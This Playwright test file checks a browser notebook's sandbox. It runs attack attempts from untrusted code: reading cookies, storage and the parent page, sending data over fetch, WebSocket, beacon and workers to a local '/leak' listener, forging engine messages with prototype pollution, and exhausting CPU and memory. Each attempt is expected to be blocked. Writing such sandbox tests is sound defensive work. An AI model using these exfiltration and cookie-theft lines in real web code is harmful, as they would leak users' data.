/** A stranger's code tries to get out, to get at data, and to bring the page down. */

import { createServer, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import { expect, test, type Page } from "@playwright/test";
import { oneTask, runSource } from "./support/automation.ts";

/** What an attempt came to: the words "blocked" and why, or what it got hold of. */
const attempt = (name: string, code: string): string => `
  try {
    const got = await (async () => { ${code} })();
    tried[${JSON.stringify(name)}] = "got " + String(got);
  } catch (error) {
    tried[${JSON.stringify(name)}] = "blocked: " + String(error);
  }`;

const attempts = (all: Readonly<Record<string, string>>): string =>
  oneTask(`
  const tried: Record<string, string> = {};
  const self = globalThis as any;
  ${Object.entries(all)
    .map(([name, code]) => attempt(name, code))
    .join("\n")}
  return tried;`);

async function tried(page: Page, all: Readonly<Record<string, string>>) {
  const report = await runSource(page, attempts(all));
  expect(report.error).toBeUndefined();
  expect(report.state).toBe("Success");
  return report.tasks["attack-1"]?.result as Record<string, string>;
}

/** Clicks a button of the page while something goes on; how long the page took to answer. */
async function timeToClick(page: Page): Promise<number> {
  return page.evaluate(
    () =>
      new Promise<number>((resolve) => {
        const button = document.createElement("button");
        document.body.append(button);
        const asked = performance.now();
        button.addEventListener("click", () => {
          button.remove();
          resolve(performance.now() - asked);
        });
        /* A macrotask first: a page that is busy does not get to it. */
        setTimeout(() => button.click(), 0);
      }),
  );
}

/** A listener that must never hear anything. */
let outside: Server;
let heard: string[] = [];
let host = "";

test.beforeAll(async () => {
  outside = createServer((request, response) => {
    heard.push(request.url ?? "");
    response.writeHead(200, { "access-control-allow-origin": "*" });
    response.end("export default 1");
  });
  await new Promise<void>((resolve) => outside.listen(0, "127.0.0.1", resolve));
  host = `127.0.0.1:${(outside.address() as AddressInfo).port}`;
});

test.afterAll(() => outside.close());

test.beforeEach(async ({ page }) => {
  heard = [];
  await page.goto("./");
  /* Loading the editor keeps the page busy by itself; what is measured here begins after it. */
  await expect(page.locator(".monaco-editor .view-lines").first()).toBeVisible();
  await page.waitForLoadState("networkidle");
});

test("storage, cookies, the page and other notebooks are out of reach", async ({ page }) => {
  await page.evaluate(() => {
    localStorage.setItem("secret", "42");
    document.cookie = "secret=42";
  });
  const got = await tried(page, {
    indexedDB: `return await new Promise((resolve, reject) => {
      const request = self.indexedDB.open("flowbook");
      request.onsuccess = () => resolve(request.result.name);
      request.onerror = () => reject(request.error);
    })`,
    databases: `return (await self.indexedDB.databases()).length`,
    localStorage: `return self.localStorage.getItem("secret")`,
    cookie: `return self.document.cookie`,
    cookieStore: `return await self.cookieStore.getAll()`,
    parentDom: `return self.parent.document.title`,
    topDom: `return self.top.document.title`,
    opfs: `return await self.navigator.storage.getDirectory()`,
    caches: `return await self.caches.keys()`,
    locks: `return await self.navigator.locks.query()`,
  });
  for (const [name, came] of Object.entries(got)) expect(came, name).toMatch(/^blocked/);
});

test("nothing gets out over the network", async ({ page }) => {
  /* A request that the policy stops is announced too; one that was answered got out. */
  const answered: string[] = [];
  page.on("response", (response) => answered.push(response.url()));
  const url = `http://${host}/leak`;
  const got = await tried(page, {
    crossOrigin: `return (await fetch("${url}?fetch")).status`,
    sameOrigin: `return (await fetch("${page.url()}?steal")).status`,
    xhr: `const xhr = new self.XMLHttpRequest(); xhr.open("GET", "${url}?xhr", false); xhr.send(); return xhr.status`,
    webSocket: `return await new Promise((resolve, reject) => {
      const socket = new self.WebSocket("ws://${host}/leak?ws");
      socket.onopen = () => resolve("open");
      socket.onerror = () => reject(new Error("refused"));
    })`,
    eventSource: `return await new Promise((resolve, reject) => {
      const source = new self.EventSource("${url}?es");
      source.onopen = () => resolve("open");
      source.onerror = () => reject(new Error("refused"));
    })`,
    beacon: `return self.navigator.sendBeacon("${url}?beacon")`,
    image: `return new self.Image().src = "${url}?image"`,
    importModule: `const load = (self as any).Function ? "" : ""; return await new self.Function("return import('${url}?import')")()`,
    importScripts: `return self.importScripts("${url}?scripts")`,
    worker: `return await new Promise((resolve, reject) => {
      const worker = new self.Worker("${url}?worker");
      worker.onerror = () => reject(new Error("refused"));
      worker.onmessage = () => resolve("ran");
    })`,
    rtc: `return new self.RTCPeerConnection()`,
  });
  for (const [name, came] of Object.entries(got)) expect(came, name).toMatch(/^blocked/);
  expect(heard).toEqual([]);
  expect(answered.filter((each) => each.includes("leak") || each.includes("steal"))).toEqual([]);
});

test("a nested worker of the attacker's own is no better off", async ({ page }) => {
  const got = await tried(page, {
    nested: `return await new Promise((resolve, reject) => {
      const text = "fetch('http://${host}/leak?nested').then(() => postMessage('out'), (e) => postMessage('no: ' + e))";
      const worker = new self.Worker(URL.createObjectURL(new Blob([text])));
      worker.onmessage = (event: any) => event.data === "out" ? resolve("out") : reject(new Error(event.data));
      worker.onerror = () => reject(new Error("refused"));
    })`,
  });
  expect(got["nested"]).toMatch(/^blocked/);
  expect(heard).toEqual([]);
});

test("the top page cannot be sent elsewhere", async ({ page }) => {
  const before = page.url();
  await tried(page, {
    top: `self.top.location = "http://${host}/leak?top"; return "set"`,
    parent: `self.parent.location.href = "http://${host}/leak?parent"; return "set"`,
    own: `self.location.href = "http://${host}/leak?own"; return "set"`,
    open: `return self.open("http://${host}/leak?open")`,
    message: `self.postMessage({ type: "navigate", to: "http://${host}/leak" }); return "sent"`,
  });
  await page.waitForTimeout(300);
  expect(page.url()).toBe(before);
  expect(heard).toEqual([]);
});

test("forged messages to the engine change nothing", async ({ page }) => {
  const report = await runSource(
    page,
    `
import { task, Flow } from "prefect";
const victim = task(async function victim() {
  await new Promise((resolve) => setTimeout(resolve, 300));
  return "honest";
});
const forger = task(async function forger() {
  const ports = new Set<any>();
  const post = MessagePort.prototype.postMessage;
  MessagePort.prototype.postMessage = function (this: any, ...args: any[]) {
    ports.add(this);
    return (post as any).apply(this, args);
  };
  console.log("so that a port is used");
  await new Promise((resolve) => setTimeout(resolve, 100));
  for (const port of ports) {
    for (const work of ["victim-1#1.1.1", "victim-1", "forger-1#1.1.1"]) {
      const value = { stored: { kind: "value", value: "forged" }, info: { length: null, preview: "forged", size: 1 } };
      post.call(port, { type: "outcomes", outcomes: [{ work, outcome: { type: "returned", value }, startedAt: 0, endedAt: 0, logs: [] }] });
    }
    post.call(port, { type: "runFinished", state: "Success" });
    post.call(port, { __proto__: { polluted: true }, constructor: { prototype: { polluted: true } } });
  }
  return "forged";
});
const flow = new Flow("forgery");
flow.with(() => { victim(); forger(); });
`,
  );
  expect(report.tasks["victim-1"]).toMatchObject({ state: "Success", result: "honest" });
  expect(await page.evaluate(() => "polluted" in {})).toBe(false);
});

test("a flood of 100,000 messages ends its worker, not the page", async ({ page }) => {
  const running = runSource(
    page,
    oneTask(`
  const ports = new Set<any>();
  const post = MessagePort.prototype.postMessage;
  MessagePort.prototype.postMessage = function (this: any, ...args: any[]) { ports.add(this); return (post as any).apply(this, args); };
  console.log("so that a port is used");
  await new Promise((resolve) => setTimeout(resolve, 100));
  for (let i = 0; i < 100_000; i++) {
    console.log("flood", i);
    for (const port of ports) post.call(port, { type: "print", cell: "source", level: "INFO", text: "flood" });
  }
  return "flooded";`),
    { timeoutMs: 30_000 },
  );
  const clicks = slowestClicks(page, running);
  const report = await running;
  expect(report.state).toBeDefined();
  await expectAnswered(clicks);
  await expectUsable(page);
});

test("a loop without end is stopped by its timeout, and the page answers meanwhile", async ({
  page,
}) => {
  const running = runSource(page, oneTask("while (true) {}", "{ timeout: { seconds: 1 } }"));
  const clicks = slowestClicks(page, running);
  const report = await running;
  expect(report.tasks["attack-1"]?.state).toBe("TimedOut");
  await expectAnswered(clicks);
  await expectUsable(page);
});

test("a cell that never ends is interrupted", async ({ page }) => {
  const report = await runSource(page, "while (true) {}", { timeoutMs: 1_500 });
  expect(report.error?.type).toBe("TimedOut");
  await expectUsable(page);
});

test("eating memory until it dies hurts nobody else", async ({ page, context }) => {
  /* Each attempt fills the memory first, and its end is noticed seconds later. */
  test.setTimeout(180_000);
  /* The sandbox frame's process dies. Playwright takes that for the page's own end and refuses to go
   * on with it, so the page, which is alive, is asked over the protocol below. */
  const session = await context.newCDPSession(page);
  const ask = async <T>(expression: string): Promise<T> => {
    const { result } = await session.send("Runtime.evaluate", {
      expression,
      awaitPromise: true,
      returnByValue: true,
    });
    return result.value as T;
  };
  const eat = oneTask(`
  const eaten: number[][] = [];
  for (;;) eaten.push(new Array(1_000_000).fill(Math.random()));`);
  const request = (source: string) => JSON.stringify({ language: "typescript", source });
  await ask(`window.eaten = window.flowbook.run(${request(eat)}); "started"`);
  const clickTime = `new Promise((resolve) => {
    const asked = performance.now();
    setTimeout(() => resolve(performance.now() - asked), 0);
  })`;
  const other = await context.newPage();
  let own = 0;
  let beside = 0;
  let state: string | null = null;
  await ask(`window.eaten.then((report) => { window.ended = report.state }); "waiting"`);
  while (state === null) {
    own = Math.max(own, await ask<number>(clickTime));
    beside = Math.max(beside, await timeToClick(other));
    state = await ask<string | null>("window.ended ?? null");
  }
  /* The kernel dies with its frame, and a run without its kernel is cancelled. */
  expect(["Failed", "Cancelled"]).toContain(state);
  await expectAnswered(Promise.resolve({ own, beside }));
  const heading = await ask<string>("document.querySelector('.notebook h1').textContent");
  expect(heading).toBe("My first flow!");
  const after = await ask<string>(
    `window.flowbook.run(${request(oneTask("return 1;"))}).then((report) => report.state)`,
  );
  expect(after).toBe("Success");
});

interface Slowest {
  readonly own: number;
  /** Of an empty page beside it: the machine is shared, and may stand still for moments. */
  readonly beside: number;
}

/** The longest that the page took to answer a click while something ran, and what took another one. */
async function slowestClicks(page: Page, running: Promise<unknown>): Promise<Slowest> {
  const other = await page.context().newPage();
  const [own, beside] = await Promise.all([
    slowestClick(page, running),
    slowestClick(other, running),
  ]);
  await other.close();
  return { own, beside };
}

async function slowestClick(page: Page, running: Promise<unknown>): Promise<number> {
  let isOver = false;
  void running.finally(() => (isOver = true)).catch(() => {});
  let slowest = 0;
  while (!isOver) slowest = Math.max(slowest, await timeToClick(page));
  return slowest;
}

async function expectAnswered(clicks: Promise<Slowest>): Promise<void> {
  const { own, beside } = await clicks;
  expect(own).toBeLessThan(Math.max(100, 5 * beside));
}

/** After an attack the notebook is there, and the next flow runs. */
async function expectUsable(page: Page): Promise<void> {
  await expect(page.getByRole("heading", { name: "My first flow!" }).first()).toBeVisible();
  const report = await runSource(page, oneTask("return 1;"));
  expect(report.state).toBe("Success");
}
